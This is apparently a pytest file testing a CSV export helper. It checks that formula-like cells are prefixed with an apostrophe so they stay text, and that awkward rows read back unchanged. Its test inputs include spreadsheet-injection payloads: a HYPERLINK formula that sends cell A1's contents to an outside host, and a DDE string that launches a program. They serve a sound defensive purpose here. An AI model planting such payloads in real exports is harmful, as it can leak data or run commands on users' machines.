"""CSV: no text becomes a formula, and each row is read back as one row."""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest

from include.conventions import csv_text


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://host/?"&A1,"total")',
        "=1+1",
        "+1",
        "-2+cmd|' /C calc'!A0",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "\uff1d1",
    ],
)
def test_a_formula_is_text(text: str) -> None:
    [[field]] = csv.reader(io.StringIO(csv_text.lines([[text]]), newline=""))
    assert field == "'" + text
    [[kept]] = csv.reader(io.StringIO(csv_text.lines([[text]], exact=True), newline=""))
    assert kept == text


@pytest.mark.parametrize("newline", ["\n", "\r\n"])
def test_rows_are_read_back_as_they_were(newline: str) -> None:
    rows: list[list[Any]] = [
        ["a\rb", "a\nb", "a\r\nb", 'a"b', "a,b", "a;b", " a ", "É 1-2=3"],
        [None, -1, Decimal("-2.50"), 1.5, True, "", "'", "x"],
    ]
    text = csv_text.lines(rows, newline)
    assert text.endswith(newline)
    read = list(csv.reader(io.StringIO(text, newline="")))
    assert read == [["" if value is None else str(value) for value in row] for row in rows]
    assert csv_text.lines([["a", 1]], newline) == f"a,1{newline}"
